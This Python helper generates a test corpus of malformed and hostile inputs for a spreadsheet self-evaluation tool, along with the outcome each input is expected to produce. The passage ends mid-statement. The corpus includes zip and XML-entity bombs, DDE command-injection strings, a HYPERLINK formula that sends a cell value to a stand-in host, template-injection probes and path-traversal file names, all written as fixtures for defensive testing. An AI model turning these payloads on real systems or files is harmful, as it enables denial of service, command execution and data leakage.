"""A corpus of broken, hostile and odd inputs, generated into a folder.

Shared by ``tests/test_corpus.py`` and ``benchmarks/bench_corpus.py``. Every file is built
here from the valid form of ``conftest.VALID`` (nothing is committed): each :class:`Case`
says what a run must make of it — refused with given problems, or read and scored.
Generation takes about a second and stays memory-flat (the zip bomb is written from one
compressed megabyte repeated, never from the gigabytes it inflates to).
"""
from __future__ import annotations

import base64
import copy
import datetime as dt
import email.message
import io
import os
import re
import struct
import zipfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path

import xlsxwriter

from conftest import VALID, write_xlsx

REFUSED, SCORED, SKIPPED = "refused", "scored", "skipped"
BOMB_GB = 2  # what the zip bomb inflates to

# Text that must stay text: formulas and DDE in every output, template tags in the reports.
FORMULA_NAME = '=HYPERLINK("http://example.invalid/?x="&A1,"点此查看")'
FORMULA_TEXTS = (FORMULA_NAME, "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "=1+1")
TEMPLATE_TEXTS = ("{{ 7*7 }}", "{% for x in range(3) %}循环{% endfor %}", "{%p if true %}",
                  "{{ ''.__class__.__mro__ }}")
PATH_ID, PATH_NAME = "../P:01*", '../../etc/passwd:*?<>|\\名称'
HUGE = ("绩效自评说明，" * 5000)[:32000]


@dataclass(frozen=True)
class Case:
    """One corpus file and what a run must make of it.

    ``problems``: (sheet, cell, code) that 问题清单 must list for this file; ``project_ids``:
    the projects that must be scored (SCORED cases); ``check_exit``: exit code of
    ``selfeval check`` on this file alone (2 unreadable, 1 data errors, 0 clean)."""

    name: str
    expect: str
    problems: frozenset = field(default_factory=frozenset)
    project_ids: tuple = ()
    check_exit: int = 0
    about: str = ""
    path: str = ""  # the file on disk, when its name is not what users see (non-UTF-8 bytes)

    @property
    def file(self) -> str:
        """The corpus file (relative to the folder) that ``selfeval check`` is given."""
        return self.path or self.name.split(" » ")[0]


def tables(pid: str, department: str = "某区民政局") -> dict[str, list[list]]:
    """The valid form with its project renamed ``pid`` (every case needs its own id, else
    the batch rightly calls two files the same project)."""
    out = copy.deepcopy(VALID)
    for rows in out.values():
        for row in rows[1:]:
            if row and row[0] == "P01":
                row[0] = pid
    out["项目信息"][1][3] = department
    return out


def workbook_bytes(sheets: dict[str, list[list]], **kw) -> bytes:
    buf = io.BytesIO()
    write_xlsx(buf, sheets, **kw)
    return buf.getvalue()


def write_strings(path: Path, sheets: dict[str, list[list]]) -> None:
    """Write every value as it is, with strings never turned into formulas (xlsxwriter
    with strings_to_formulas off): how a cell typed with a leading apostrophe is stored."""
    book = xlsxwriter.Workbook(str(path), {"strings_to_formulas": False, "strings_to_urls": False})
    for name, rows in sheets.items():
        sheet = book.add_worksheet(name)
        for r, row in enumerate(rows):
            for c, value in enumerate(row):
                if isinstance(value, str):
                    sheet.write_string(r, c, value)
                elif value is not None:
                    sheet.write(r, c, value)
    book.close()


# -- zip surgery ------------------------------------------------------------------------------

def replace_part(data: bytes, part: str, new: bytes) -> bytes:
    """The same .xlsx with one part's bytes replaced."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            zout.writestr(info.filename, new if info.filename == part else zin.read(info.filename))
    return out.getvalue()


def _raw_zip(entries: list[tuple[str, bytes, int, int]]) -> bytes:
    """A zip from already-deflated entries (name, raw deflate, crc32, size): zipfile cannot
    write a stream it did not compress itself."""
    out = io.BytesIO()
    central = []
    for name, raw, crc, size in entries:
        encoded = name.encode()
        offset = out.tell()
        out.write(struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0x21, crc, len(raw), size,
                              len(encoded), 0) + encoded + raw)
        central.append(struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 8, 0, 0x21, crc, len(raw),
                                   size, len(encoded), 0, 0, 0, 0, 0, offset) + encoded)
    start = out.tell()
    body = b"".join(central)
    out.write(body + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(body), start, 0))
    return out.getvalue()


def _deflate(data: bytes, final: bool = True) -> bytes:
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    return co.compress(data) + co.flush(zlib.Z_FINISH if final else zlib.Z_FULL_FLUSH)


def zip_bomb(valid: bytes, part: str = "xl/worksheets/sheet2.xml", gigabytes: int = BOMB_GB,
             declared: int | None = None) -> bytes:
    """A real .xlsx whose ``part`` inflates to ``gigabytes`` of whitespace inside <sheetData>,
    honestly declared unless ``declared`` gives the size to claim. A full flush makes each compressed megabyte independent, so one is
    compressed and repeated: building takes well under a second and no gigabyte is ever held."""
    megabyte = b" " * 2**20
    block = _deflate(megabyte, final=False)
    entries = []
    with zipfile.ZipFile(io.BytesIO(valid)) as zin:
        for info in zin.infolist():
            data = zin.read(info.filename)
            if info.filename != part:
                entries.append((info.filename, _deflate(data), zlib.crc32(data), len(data)))
                continue
            head, sep, tail = data.partition(b"<sheetData>")
            crc = zlib.crc32(head + sep)
            for _ in range(gigabytes * 1024):
                crc = zlib.crc32(megabyte, crc)
            crc = zlib.crc32(tail, crc)
            raw = _deflate(head + sep, final=False) + block * (gigabytes * 1024) + _deflate(tail)
            size = len(head + sep) + gigabytes * 2**30 + len(tail)
            entries.append((info.filename, raw, crc, size if declared is None else declared))
    return _raw_zip(entries)


_LAUGHS = (b'<!DOCTYPE worksheet [<!ENTITY a "ha">'
           + b"".join(b'<!ENTITY %c "%s">' % (98 + i, b"&%c;" % (97 + i) * 10) for i in range(9)) + b"]>")


def entity_bomb(valid: bytes, padding: int = 0, part: str = "xl/worksheets/sheet1.xml") -> bytes:
    """``part`` preceded by a billion-laughs DTD, with ``&j;`` (10^9 ``ha``) in a cell, after
    ``padding`` bytes of XML comment (a guard that sniffs only the first kilobytes misses it)."""
    with zipfile.ZipFile(io.BytesIO(valid)) as zin:
        xml = zin.read(part)
    if xml.startswith(b"<?xml"):
        xml = xml.split(b"?>", 1)[1]
    xml = xml.replace(b"</sheetData>", b'<row r="99"><c r="A99" t="inlineStr"><is><t>&j;</t></is></c></row>'
                                       b"</sheetData>", 1)
    comment = b"<!--" + b"x" * padding + b"-->" if padding else b""
    declaration = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    return replace_part(valid, part, declaration + comment + _LAUGHS + xml)


def shared_string_bomb(valid: bytes, cells: int = 20000, length: int = 32000) -> bytes:
    """A ~100 KB .xlsx whose 支出 sheet has ``cells`` cells all pointing at one ``length``-byte
    shared string: calamine copies it into every cell (20000 x 32 KB = 640 MB)."""
    out = io.BytesIO()
    rows = b"".join(b'<row r="%d"><c r="F%d" t="s"><v>0</v></c></row>' % (r, r) for r in range(10, 10 + cells))
    with zipfile.ZipFile(io.BytesIO(valid)) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            if info.filename == "xl/worksheets/sheet3.xml":
                data = data.replace(b"</sheetData>", rows + b"</sheetData>")
            elif info.filename == "[Content_Types].xml":
                data = data.replace(b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                                    b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
            elif info.filename == "xl/_rels/workbook.xml.rels":
                data = data.replace(b"</Relationships>", b'<Relationship Id="rIdSS" Type="http://schemas.openxmlformats.'
                                    b'org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
                                    b"</Relationships>")
            zout.writestr(info.filename, data)
        zout.writestr("xl/sharedStrings.xml", b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.'
                      b'openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>'
                      + b"x" * length + b"</t></si></sst>")
    return out.getvalue()


def far_cell(valid: bytes, ref: str = "XFD1048576", part: str = "xl/worksheets/sheet2.xml") -> bytes:
    """One value in the last cell of the sheet: calamine would allocate 17 billion cells."""
    row = ref.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ").encode()
    with zipfile.ZipFile(io.BytesIO(valid)) as zin:
        xml = zin.read(part)
    cell = b'<row r="%s"><c r="%s" t="inlineStr"><is><t>x</t></is></c></row></sheetData>' % (row, ref.encode())
    return replace_part(valid, part, xml.replace(b"</sheetData>", cell))


def encrypted(valid: bytes, password: str = "123456") -> bytes:
    """The workbook encrypted the way Excel's 用密码进行加密 does (an OLE file holding an
    EncryptedPackage stream), made with msoffcrypto-tool."""
    from msoffcrypto.format.ooxml import OOXMLFile

    out = io.BytesIO()
    OOXMLFile(io.BytesIO(valid)).encrypt(password, out)
    return out.getvalue()


def write_xls(path: Path, sheets: dict[str, list[list]]) -> None:
    """An Excel 97-2003 .xls with xlwt."""
    import xlwt

    book = xlwt.Workbook(encoding="utf-8")
    for name, rows in sheets.items():
        sheet = book.add_sheet(name)
        for r, row in enumerate(rows):
            for c, value in enumerate(row):
                if value is not None:
                    sheet.write(r, c, value)
    book.save(path if hasattr(path, "write") else str(path))


def write_eml(path: Path, attachments: list[tuple[str, bytes]]) -> None:
    message = email.message.EmailMessage()
    message["From"], message["To"] = "某区民政局 <mz@example.invalid>", "czj@example.invalid"
    message["Subject"], message["Date"] = "2023年度绩效自评表", "Mon, 02 Oct 2023 09:00:00 +0800"
    message.set_content("附件为自评表。")
    for filename, data in attachments:
        message.add_attachment(data, maintype="application", subtype="octet-stream", filename=filename)
    path.write_bytes(message.as_bytes())


# -- round 2: names, special files, containers, Strict, ambiguity, odd cells -----------------------

STRICT_NAMESPACES = {  # transitional -> Strict, as Excel's "Strict Open XML" output names them
    b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/extended-properties":
        b"http://purl.oclc.org/ooxml/officeDocument/relationships/extendedProperties",
    b"http://schemas.openxmlformats.org/spreadsheetml/2006/main": b"http://purl.oclc.org/ooxml/spreadsheetml/main",
    b"http://schemas.openxmlformats.org/officeDocument/2006/relationships":
        b"http://purl.oclc.org/ooxml/officeDocument/relationships",
    b"http://schemas.openxmlformats.org/drawingml/2006/main": b"http://purl.oclc.org/ooxml/drawingml/main",
    b"http://schemas.openxmlformats.org/officeDocument/2006/extended-properties":
        b"http://purl.oclc.org/ooxml/officeDocument/extendedProperties",
}


def rewrite_parts(data: bytes, change) -> bytes:
    """The .xlsx with ``change(name, bytes)`` applied to every part (None drops the part)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            new = change(info.filename, zin.read(info.filename))
            if new is not None:
                zout.writestr(info.filename, new)
    return out.getvalue()


def strict(data: bytes) -> bytes:
    """A transitional .xlsx rewritten the way Excel saves "Strict Open XML" (LibreOffice cannot
    write it): every namespace mapped, ``conformance="strict"`` on the workbook."""
    def change(name, xml):
        if not name.endswith((".xml", ".rels")):
            return xml
        for transitional, strict_ns in STRICT_NAMESPACES.items():
            xml = xml.replace(transitional, strict_ns)
        return xml.replace(b"<workbook ", b'<workbook conformance="strict" ', 1) if name == "xl/workbook.xml" else xml
    return rewrite_parts(data, change)


def without_references(data: bytes) -> bytes:
    """Every row and cell of every sheet without its ``r=`` reference (valid OOXML)."""
    def change(name, xml):
        if name.startswith("xl/worksheets/sheet"):
            xml = re.sub(rb'<row r="\d+"', b"<row", re.sub(rb' r="[A-Z]+\d+"', b"", xml))
        return xml
    return rewrite_parts(data, change)


def without_styles(data: bytes) -> bytes:
    """The workbook without ``xl/styles.xml`` (and no cell refers to a style)."""
    def change(name, xml):
        if name == "xl/styles.xml":
            return None
        if name.startswith("xl/worksheets/sheet"):
            return re.sub(rb' s="\d+"', b"", xml)
        if name == "xl/_rels/workbook.xml.rels":
            return re.sub(rb'<Relationship[^>]*/styles"[^>]*/>', b"", xml)
        if name == "[Content_Types].xml":
            return re.sub(rb'<Override PartName="/xl/styles.xml"[^>]*/>', b"", xml)
        return xml
    return rewrite_parts(data, change)


def with_error_value(data: bytes, part: str, ref: str, error: str = "#DIV/0!") -> bytes:
    """Cell ``ref`` of ``part`` replaced by a cached Excel error value."""
    def change(name, xml):
        if name == part:
            xml = re.sub(rb'<c r="%s"[^>]*?(?:/>|>.*?</c>)' % ref.encode(),
                         b'<c r="%s" t="e"><v>%s</v></c>' % (ref.encode(), error.encode()), xml, count=1, flags=re.S)
        return xml
    return rewrite_parts(data, change)


def with_hidden_stale_sheet(valid_tables: dict, stale_tables: dict) -> bytes:
    """The form whose 绩效指标 is 「绩效指标 (2)」, beside a hidden stale 「绩效指标」 read from
    ``stale_tables`` (Excel's copy of a sheet, the old one hidden)."""
    import openpyxl

    book = openpyxl.Workbook()
    book.remove(book.active)
    for name, rows in valid_tables.items():
        if name == "绩效指标":
            stale = book.create_sheet("绩效指标")
            for row in stale_tables["绩效指标"]:
                stale.append(row)
            stale.sheet_state = "hidden"
            name = "绩效指标 (2)"
        sheet = book.create_sheet(name)
        for row in rows:
            sheet.append(row)
    buf = io.BytesIO()
    book.save(buf)
    return buf.getvalue()


def ods_bytes(sheets: dict[str, list[list]], percent: set[tuple[str, int, int]] = frozenset()) -> bytes:
    """A minimal OpenDocument spreadsheet (what LibreOffice or WPS save as .ods); cells in
    ``percent`` (sheet, row, col) are percentage-typed numbers."""
    from xml.sax.saxutils import escape

    tables = []
    for name, rows in sheets.items():
        body = []
        for r, row in enumerate(rows):
            cells = []
            for c, value in enumerate(row):
                if value is None or value == "":
                    cells.append("<table:table-cell/>")
                elif isinstance(value, (int, float)):
                    kind = "percentage" if (name, r, c) in percent else "float"
                    cells.append(f'<table:table-cell office:value-type="{kind}" office:value="{value}"><text:p>{value}'
                                 "</text:p></table:table-cell>")
                else:
                    cells.append(f'<table:table-cell office:value-type="string"><text:p>{escape(str(value))}</text:p>'
                                 "</table:table-cell>")
            body.append(f"<table:table-row>{''.join(cells)}</table:table-row>")
        tables.append(f'<table:table table:name="{escape(name)}">{"".join(body)}</table:table>')
    content = ('<?xml version="1.0" encoding="UTF-8"?><office:document-content '
               'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
               'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
               'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
               f'<office:body><office:spreadsheet>{"".join(tables)}</office:spreadsheet></office:body>'
               "</office:document-content>")
    manifest = ('<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
                'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
                '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
                '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>')
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.spreadsheet")
        z.writestr("META-INF/manifest.xml", manifest)
        z.writestr("content.xml", content)
    return out.getvalue()


class _RawName(zipfile.ZipInfo):
    """A member name written as the given bytes, without the UTF-8 flag."""

    def __init__(self, raw: bytes):
        super().__init__(raw.decode("cp437"), date_time=(2023, 10, 1, 9, 0, 0))
        self.raw = raw

    def _encodeFilenameFlags(self):
        return self.raw, self.flag_bits & ~0x800


def zip_bytes(members: list[tuple[bytes | str, bytes]]) -> bytes:
    """A .zip of (name, data); a ``bytes`` name is written as is, without the UTF-8 flag (how
    Windows zips names in the system code page, GBK in China)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            if isinstance(name, bytes):
                z.writestr(_RawName(name), data, zipfile.ZIP_DEFLATED)
            else:
                z.writestr(name, data)
    return out.getvalue()


def raw_eml(attachments: list[tuple[bytes, bytes]]) -> bytes:
    """An e-mail as some Chinese mail clients write it: each attachment's Content-Disposition
    given as raw header bytes (``filename="<GBK bytes>"`` or RFC 2231 pieces), base64 body."""
    parts = [b"From: =?gb2312?B?" + base64.b64encode("某区财政局".encode("gbk")) + b"?= <czj@example.invalid>",
             b"Date: Mon, 02 Oct 2023 09:00:00 +0800", b"MIME-Version: 1.0",
             b'Content-Type: multipart/mixed; boundary="BOUNDARY"', b"", b"--BOUNDARY",
             b"Content-Type: text/plain; charset=utf-8", b"", "附件为自评表。".encode(), b""]
    for disposition, data in attachments:
        encoded = base64.encodebytes(data).replace(b"\n", b"\r\n")
        parts += [b"--BOUNDARY", b"Content-Type: application/octet-stream", b"Content-Disposition: " + disposition,
                  b"Content-Transfer-Encoding: base64", b"", encoded]
    parts += [b"--BOUNDARY--", b""]
    return b"\r\n".join(parts)


def rfc2231_split(name: str, charset: str = "gbk", cut: int = 3) -> bytes:
    """``filename*0*=gbk''…; filename*1*=…`` with the break ``cut`` bytes in, i.e. inside the
    second GBK character (a two-byte character is split between the pieces)."""
    quoted = "".join(f"%{b:02X}" for b in name.encode(charset))
    return (b"attachment; filename*0*=" + charset.encode() + b"''" + quoted[:cut * 3].encode()
            + b"; filename*1*=" + quoted[cut * 3:].encode())


def write_msg(path: Path, attachments: list[tuple[str, bytes]], sender: str = "某区民政局",
              date: dt.datetime = dt.datetime(2023, 10, 2, 1, 0, tzinfo=dt.timezone.utc)) -> None:
    """A minimal Outlook .msg (an OLE compound file, written with extract-msg's OleWriter):
    subject, sender, submit time and file attachments (stored by value)."""
    from extract_msg import OleWriter

    def prop(tag: int, kind: int, value: bytes) -> bytes:
        return struct.pack("<HHI", kind, tag, 6) + value

    stamp = struct.pack("<Q", int((date - dt.datetime(1601, 1, 1, tzinfo=dt.timezone.utc)).total_seconds() * 10**7))
    ole = OleWriter()
    ole.addEntry("__properties_version1.0", struct.pack("<8xIIII8x", 0, len(attachments), 0, len(attachments))
                 + prop(0x0039, 0x0040, stamp))  # PR_CLIENT_SUBMIT_TIME
    for tag, text in (("001A001F", "IPM.Note"), ("0037001F", "2023年度绩效自评表"), ("0C1A001F", sender)):
        ole.addEntry(f"__substg1.0_{tag}", text.encode("utf-16-le"))
    ole.addEntry("__nameid_version1.0", storage=True)
    for stream in ("00020102", "00030102", "00040102"):
        ole.addEntry(f"__nameid_version1.0/__substg1.0_{stream}", b"")
    for k, (name, data) in enumerate(attachments):
        folder = f"__attach_version1.0_#{k:08X}"
        ole.addEntry(folder, storage=True)
        ole.addEntry(f"{folder}/__properties_version1.0", b"\0" * 8 + prop(0x3705, 0x0003, struct.pack("<I4x", 1)))
        ole.addEntry(f"{folder}/__substg1.0_37010102", data)  # PR_ATTACH_DATA_BIN
        ole.addEntry(f"{folder}/__substg1.0_3707001F", name.encode("utf-16-le"))  # PR_ATTACH_LONG_FILENAME
    ole.write(str(path))


# -- the corpus -------------------------------------------------------------------------------

def build_corpus(folder: str | Path) -> list[Case]:
    """Write every corpus file into ``folder`` (created) and return the cases, in file order."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    valid = workbook_bytes(tables("BASE"))
    cases: list[Case] = []

    def put(name: str, data: bytes, case: Case) -> None:
        (folder / name).write_bytes(data)
        cases.append(case)

    def refused(name, problems, check_exit, about):
        return Case(name, REFUSED, frozenset(problems), (), check_exit, about)

    # ---- refused with a clear problem
    put("空文件.xlsx", b"", refused("空文件.xlsx", {("", "", "empty-file")}, 2, "empty file"))
    put("文本.xlsx", "这不是工作簿，只是一段文字。\n".encode(), refused("文本.xlsx", {("", "", "not-a-workbook")}, 2,
                                                                "text file named .xlsx"))
    csv = "项目编号,项目名称,年度,主管部门\nP01,社区党建经费,2023,某区民政局\n".encode("gb18030")
    put("导出.xlsx", csv, refused("导出.xlsx", {("", "", "not-a-workbook")}, 2, "CSV renamed .xlsx"))
    put("截断.xlsx", valid[: len(valid) // 2], refused("截断.xlsx", {("", "", "corrupt-file")}, 2, "truncated zip"))
    put("加密.xlsx", encrypted(valid), refused("加密.xlsx", {("", "", "encrypted")}, 2, "password-protected"))
    put("压缩炸弹.xlsx", zip_bomb(valid), refused("压缩炸弹.xlsx", {("", "", "zip-bomb")}, 2,
                                              f"zip bomb inflating to {BOMB_GB} GB"))
    put("实体炸弹.xlsx", entity_bomb(valid), refused("实体炸弹.xlsx", {("", "", "xml-entities")}, 2,
                                                "billion laughs in sheet XML"))
    put("实体炸弹_注释.xlsx", entity_bomb(valid, padding=20000),
        refused("实体炸弹_注释.xlsx", {("", "", "xml-entities")}, 2, "DTD after 20 KB of comment"))
    put("远端单元格.xlsx", far_cell(valid),
        refused("远端单元格.xlsx", {("资金", "XFD1048576", "sheet-too-large")}, 1, "one value in XFD1048576"))
    put("共享字符串炸弹.xlsx", shared_string_bomb(valid),
        refused("共享字符串炸弹.xlsx", {("", "", "text-too-large")}, 1, "one 32 KB string in 20000 cells"))
    word = io.BytesIO()
    with zipfile.ZipFile(word, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", "<w:document/>")
    put("其实是Word.xlsx", word.getvalue(), refused("其实是Word.xlsx", {("", "", "not-a-workbook")}, 2,
                                                "a Word zip renamed .xlsx"))

    t = tables("C-SHEET")
    del t["资金"]
    put("缺工作表.xlsx", workbook_bytes(t), refused("缺工作表.xlsx", {("资金", "", "missing-sheet")}, 1, "a sheet missing"))
    t = tables("C-HEAD")
    for rows in t.values():
        rows[0] = [f"第{i + 1}列" for i in range(len(rows[0]))]
    put("表头全改.xlsx", workbook_bytes(t), refused("表头全改.xlsx", {(s, "", "missing-header") for s in t}, 1,
                                                "every header renamed"))
    t = tables("C-DATE")
    t["资金"][1][3] = dt.datetime(2023, 5, 1)
    put("日期当金额.xlsx", workbook_bytes(t), refused("日期当金额.xlsx", {("资金", "D2", "bad-number")}, 1,
                                                  "a date where an amount belongs"))
    t = tables("C-FORMULA")
    t["资金"][1][4] = "=C2*0.95"  # openpyxl stores the formula and no cached value
    put("公式无值.xlsx", workbook_bytes(t), refused("公式无值.xlsx", {("资金", "E2", "formula-no-value")}, 1,
                                                "a formula without a cached value"))
    t = tables("C-WORDS")
    t["绩效指标"][1][7] = "二十五分"
    put("分值是文字.xlsx", workbook_bytes(t), refused("分值是文字.xlsx", {("绩效指标", "H2", "bad-number")}, 1,
                                                  "weights typed as words"))
    for name, department in (("甲局.xlsx", "甲局"), ("乙局.xlsx", "乙局")):
        put(name, workbook_bytes(tables("C-DUP", department)),
            refused(name, {("项目信息", "A2", "duplicate-project-across-files")}, 0,
                    "same 项目编号 from two departments (check sees one file: clean)"))

    # ---- read and scored despite the oddity
    def scored(name, pid, about):
        return Case(name, SCORED, frozenset(), (pid,), 0, about)

    write_xls(folder / "旧格式.xls", tables("S-XLS"))
    cases.append(scored("旧格式.xls", "S-XLS", ".xls (BIFF8)"))
    write_xls(folder / "旧格式改名.xlsx", tables("S-XLS2"))
    cases.append(scored("旧格式改名.xlsx", "S-XLS2", ".xls content named .xlsx"))
    t = tables("S-SHUFFLE")
    for sheet, rows in t.items():
        t[sheet] = [list(reversed(row)) for row in rows]
    put("表头乱序.xlsx", workbook_bytes(t), scored("表头乱序.xlsx", "S-SHUFFLE", "headers shuffled"))
    t = tables("S-BLANK")
    t["资金"] = [[None]] * 20000 + t["资金"]
    t["绩效指标"] = [[None]] * 20000 + t["绩效指标"]
    put("两万空行.xlsx", workbook_bytes(t), scored("两万空行.xlsx", "S-BLANK", "20,000 blank rows before the data"))
    t = tables("S-MERGE")
    rows = t["绩效指标"]
    rows[2][0] = rows[2][1] = rows[4][0] = None
    put("合并单元格.xlsx", workbook_bytes(t, merges={"绩效指标": ["A2:A5", "B2:B3"]}),
        scored("合并单元格.xlsx", "S-MERGE", "merged cells"))
    t = tables("S-HUGE")
    for header in ("项目实施情况", "存在问题", "改进措施"):
        t["项目信息"][1][t["项目信息"][0].index(header)] = HUGE
    t["项目信息"][1][1] = HUGE
    t["绩效指标"][1][3] = HUGE
    put("超长单元格.xlsx", workbook_bytes(t), scored("超长单元格.xlsx", "S-HUGE", "32,000-character cells"))
    t = tables(PATH_ID)
    t["项目信息"][1][1] = PATH_NAME
    t["项目信息"][1][4] = "C:\\Windows\\System32\\..\\实施单位"
    put("路径字符.xlsx", workbook_bytes(t), scored("路径字符.xlsx", PATH_ID, "ids and names with ../ : *"))
    t = tables("=S-FORMULA")
    t["项目信息"][1][1] = FORMULA_NAME
    t["项目信息"][1][4] = FORMULA_TEXTS[1]
    t["项目信息"][1][5:8] = [" ".join(TEMPLATE_TEXTS), TEMPLATE_TEXTS[0], TEMPLATE_TEXTS[3]]  # 目标, 完成, 实施
    t["绩效指标"][1][3] = FORMULA_TEXTS[2]
    t["绩效指标"][2][3] = TEMPLATE_TEXTS[1]
    t["绩效指标"][3][3] = FORMULA_TEXTS[3]
    t["绩效指标"][4][3] = TEMPLATE_TEXTS[2]
    t["支出"][1][1] = FORMULA_TEXTS[4]
    t["绩效指标"][4][5], t["绩效指标"][4][6] = "=100%", "100%"  # an equal target typed with "="
    write_strings(folder / "公式与模板文字.xlsx", t)
    cases.append(scored("公式与模板文字.xlsx", "=S-FORMULA", "text that looks like a formula or template tag"))
    write_eml(folder / "逃逸附件.eml", [("../../../逃逸.xlsx", workbook_bytes(tables("S-EML")))])
    cases.append(scored("逃逸附件.eml » ../../../逃逸.xlsx", "S-EML", "attachment named ../../../x.xlsx"))

    # ---- round 2 (issue 16): odd names, special files, containers, Strict, ambiguity, odd cells
    gbk = "部门".encode("gbk"), "甲局自评.xlsx".encode("gbk")
    os.makedirs(os.path.join(os.fsencode(folder), gbk[0]), exist_ok=True)
    Path(os.fsdecode(os.path.join(os.fsencode(folder), *gbk))).write_bytes(workbook_bytes(tables("S-GBKNAME")))
    cases.append(Case("部门/甲局自评.xlsx", SCORED, frozenset(), ("S-GBKNAME",), 0,
                      "file and folder named in GBK bytes (a Windows zip unpacked on Linux)",
                      path=os.fsdecode(os.path.join(*gbk))))
    if hasattr(os, "mkfifo"):
        os.mkfifo(folder / "管道.xlsx")
        cases.append(refused("管道.xlsx", {("", "", "special-file")}, 2, "a FIFO named .xlsx (must not hang)"))
    if Path("/dev/zero").exists():
        (folder / "设备.xlsx").symlink_to("/dev/zero")
        cases.append(refused("设备.xlsx", {("", "", "special-file")}, 2, "a link to /dev/zero (must not be read)"))
    with open(folder / "巨大.xlsx", "wb") as fh:
        fh.truncate(3 * 2**30)  # sparse: 3 GB to stat, nothing on disk, never to be read
    cases.append(refused("巨大.xlsx", {("", "", "file-too-large")}, 2, "a 3 GB file, refused from its size"))
    with open(folder / "超大邮件.eml", "wb") as fh:
        fh.truncate(200 * 2**20)
    cases.append(refused("超大邮件.eml", {("", "", "file-too-large")}, 2, "an e-mail over the size limit"))

    t = tables("S-STRICT")
    t["绩效指标"][3][6] = 0.96  # 96 % as a percent-formatted number: 0.96 % would lose 30 points
    put("严格格式.xlsx", strict(workbook_bytes(t, formats={"绩效指标": {"G4": "0%"}})),
        scored("严格格式.xlsx", "S-STRICT", "Excel Strict Open XML with a percent cell"))
    stale = tables("S-HIDDEN")
    for row in stale["绩效指标"][1:]:
        row[6] = "0"  # the old sheet: nothing achieved yet
    put("隐藏旧表.xlsx", with_hidden_stale_sheet(tables("S-HIDDEN"), stale),
        scored("隐藏旧表.xlsx", "S-HIDDEN", "hidden stale 绩效指标 beside 绩效指标 (2)"))
    t = tables("C-TWOCOLS")
    t["资金"][0].append("全年执行数")
    t["资金"][1].append(60)
    put("重复列.xlsx", workbook_bytes(t), refused("重复列.xlsx", {("资金", "F1", "duplicate-header"),
                                                          ("资金", "F2", "conflicting-columns")}, 1,
                                               "the same header twice, values differing"))
    t = tables("S-YUAN")
    t["资金"][1][3] = "1000000元"  # 100 万元 typed in 元 in a 万元 column
    put("金额带元.xlsx", workbook_bytes(t), scored("金额带元.xlsx", "S-YUAN", "950000元 in a 万元 column: converted"))
    t = tables("C-TIMES")
    t["资金"][1][4] = "95次"
    put("金额带次.xlsx", workbook_bytes(t), refused("金额带次.xlsx", {("资金", "E2", "bad-amount-unit")}, 1,
                                                "95次 in an amount column"))
    t = tables("NA")
    t["项目信息"][1][4] = "NULL"  # 实施单位 typed as NULL: text, kept
    put("编号NA.xlsx", workbook_bytes(t), scored("编号NA.xlsx", "NA", "project id NA, text NULL"))
    put("除零错误.xlsx", with_error_value(workbook_bytes(tables("C-DIV0")), "xl/worksheets/sheet2.xml", "E2"),
        refused("除零错误.xlsx", {("资金", "E2", "excel-error")}, 1, "a cached #DIV/0! in 全年执行数"))
    t = tables("S-DASH")
    t["资金"][1][2] = "—"
    t["绩效指标"][1][8], t["绩效指标"][2][8], t["绩效指标"][3][9] = "/", "无", "—"
    put("横线空值.xlsx", workbook_bytes(t), scored("横线空值.xlsx", "S-DASH", "—, /, 无 in optional number cells"))
    t = tables("S-NOREF")
    t["资金"][1][2] = "x"  # a mark lands in a sheet whose cells carry no r= (the copy must keep them)
    put("无单元格引用.xlsx", without_styles(without_references(workbook_bytes(t))),
        Case("无单元格引用.xlsx", REFUSED, frozenset({("资金", "C2", "bad-number")}), (), 1,
             "no r= on rows and cells, no styles.xml"))

    inner = workbook_bytes(tables("S-ZIPMAIL"))
    write_eml(folder / "压缩附件.eml", [("材料.zip", zip_bytes([("甲局/自评表.xlsx", inner), ("说明.txt", b"x")]))])
    cases.append(scored("压缩附件.eml » 材料.zip » 甲局/自评表.xlsx", "S-ZIPMAIL", "a .zip of workbooks attached"))
    put("收件.zip", zip_bytes([("说明.txt", b"x"), ("乙局自评.xlsx".encode("gbk"), workbook_bytes(tables("S-ZIP")))]),
